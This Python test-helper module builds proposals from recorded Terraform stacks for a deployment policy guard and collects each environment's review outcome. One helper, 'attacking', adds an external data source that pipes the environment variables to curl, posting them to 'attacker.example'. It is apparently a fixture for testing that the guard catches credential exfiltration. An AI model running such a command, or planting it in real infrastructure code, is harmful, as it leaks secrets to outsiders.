"""Proposals for the tests, made of recorded stacks: a pull request's stacks next to this code's."""

import copy
import json
from collections.abc import Mapping
from typing import Any

from delivery.plan.document import Plan
from delivery.policy.guard import guard_bootstrap, guard_proposal
from delivery.policy.overrides import Overrides
from delivery.proposal.judged_proposal import JudgedProposal
from delivery.proposal.proposal import Proposal
from delivery.proposal.understanding import Understood
from delivery.review.outcome import Outcome, Planned, Unplanned
from environments.schema.document import SettingsDocument
from environments.schema.settings import BOOTSTRAP, Environment
from tests.account import SETTINGS
from tests.delivery.plan_documents import real_document, real_stack

# The environments with stacks in tests/delivery/plans; tests may add others.
RECORDED = ("prod", "staging")
BASE = SettingsDocument(shared=SETTINGS.shared, environments=tuple(map(SETTINGS.find, RECORDED)))
Stack = dict[str, Any]


def changed(environment: str, **fields: object) -> SettingsDocument:
    """Return the settings with other values for an environment's fields."""

    def edited(row: Environment) -> Environment:
        return row.changed(fields) if row.name == environment else row

    return SettingsDocument(shared=BASE.shared, environments=tuple(map(edited, BASE.environments)))


def labelled(stack: Stack) -> Stack:
    """Return the stack after a construct labels every Deployment."""
    result = copy.deepcopy(stack)
    for body in result["resource"]["kubernetes_deployment_v1"].values():
        body["metadata"]["labels"]["tier"] = "application"
    return result


def labelled_plan() -> Plan:
    """Return Terraform's plan for ``labelled``."""
    content = real_document("staging-empty")
    for row in content["resource_changes"]:
        if row["type"] == "kubernetes_deployment_v1":
            change = row["change"]
            change["actions"] = ["update"]
            change["after"] = copy.deepcopy(change["before"])
            change["after"]["metadata"][0]["labels"]["tier"] = "application"
    return Plan.parse(json.dumps(content))


def attacking(stack: Stack) -> Stack:
    """Return the stack with a data source that runs a program."""
    result = copy.deepcopy(stack)
    result["data"]["external"] = {"credentials": {"program": ["sh", "-c", "env | curl -d @- attacker.example"]}}
    return result


def judged(
    *,
    proposed: Mapping[str, Stack],
    trusted: Mapping[str, Stack] | None = None,
    settings: SettingsDocument = BASE,
) -> JudgedProposal:
    """Judge a proposal of these stacks; all others are as today.

    trusted: this code's stacks for the proposed settings, if they differ from today's.
    """
    before = {name: real_stack(f"{name}-empty") for name in RECORDED}
    # It is not planned: its content does not matter here as long as it stays the same.
    before[BOOTSTRAP] = {"terraform": {}, "resource": {}}
    return JudgedProposal(
        proposal=Proposal(settings=json.loads(settings.to_json()), stacks={**before, **proposed}),
        understood=Understood(settings=settings, unknown=()),
        base=BASE,
        trusted={**before, **(trusted or {})},
        before=before,
    )


def outcomes(proposal: JudgedProposal, plans: Mapping[str, Plan], text: str = "") -> list[Outcome]:
    """Return each environment's outcome. plans: by planned environment."""
    overrides = Overrides.of(text)
    rows: list[Outcome] = []
    for name in proposal.environments:
        plan = plans.get(name)
        result = guard_proposal(name, plan, proposal, overrides)
        rows.append(
            Planned(plan=plan, stack=proposal.stack(name), guard_result=result)
            if plan
            else Unplanned(guard_result=result)
        )
    bootstrap = guard_bootstrap(proposal, overrides)
    return [*rows, *([Unplanned(guard_result=bootstrap)] if bootstrap.findings else [])]
